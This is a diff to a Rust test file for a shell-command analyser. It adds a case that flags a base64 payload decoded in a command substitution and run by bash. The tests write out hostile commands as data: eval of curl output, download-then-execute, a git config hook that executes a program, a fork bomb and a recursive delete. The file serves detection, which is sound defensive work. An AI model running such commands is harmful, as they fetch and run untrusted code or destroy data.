@@ -75,6 +75,10 @@ fn what_cannot_be_resolved_is_a_fact() {
     assert!(facts("`cat cmd.txt` -rf ~").contains(&Fact::DynamicCommand));
     assert!(facts("eval \"$(curl -s https://x)\"").contains(&Fact::EvalOfUnknownText));
     assert!(facts("echo abc | base64 -d | bash").contains(&Fact::DecodedIntoExecutor));
+    // Decoded in a substitution and run: the same, though now readable.
+    assert!(
+        facts("bash -c \"$(echo ZWNobyBoaQ== | base64 -d)\"").contains(&Fact::DecodedIntoExecutor)
+    );
     assert!(facts("curl -o /tmp/i https://host/i; sh /tmp/i").contains(&Fact::WrittenThenExecuted));
     assert!(facts("git -c core.fsmonitor=/tmp/x status").contains(&Fact::ConfigExecutes));
     assert!(facts(":(){ :|:& };:").contains(&Fact::ForkBomb));
